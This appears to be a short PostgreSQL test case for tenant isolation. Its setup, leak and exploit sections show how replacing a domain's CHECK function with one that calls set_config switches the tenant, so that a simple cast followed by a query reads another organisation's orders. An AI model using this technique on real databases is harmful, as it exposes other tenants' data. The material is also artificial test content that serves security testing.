-- The check of a domain sets the tenant: a cast is enough.
-- object: public.trimmed
-- base: integer
--- setup
CREATE SCHEMA tools;
GRANT USAGE ON SCHEMA tools TO {app};
CREATE FUNCTION tools.accept(value text) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT value = btrim(value) $$;
CREATE DOMAIN trimmed AS text CHECK (tools.accept(VALUE));
--- leak
CREATE OR REPLACE FUNCTION tools.accept(value text) RETURNS boolean LANGUAGE sql IMMUTABLE
    AS $$ SELECT set_config('myapp.org', '{B}', true) IS NOT NULL $$;
--- twin
SELECT 1;
--- exploit
SELECT 'x'::text::trimmed;
SELECT * FROM orders WHERE org_id = {B};
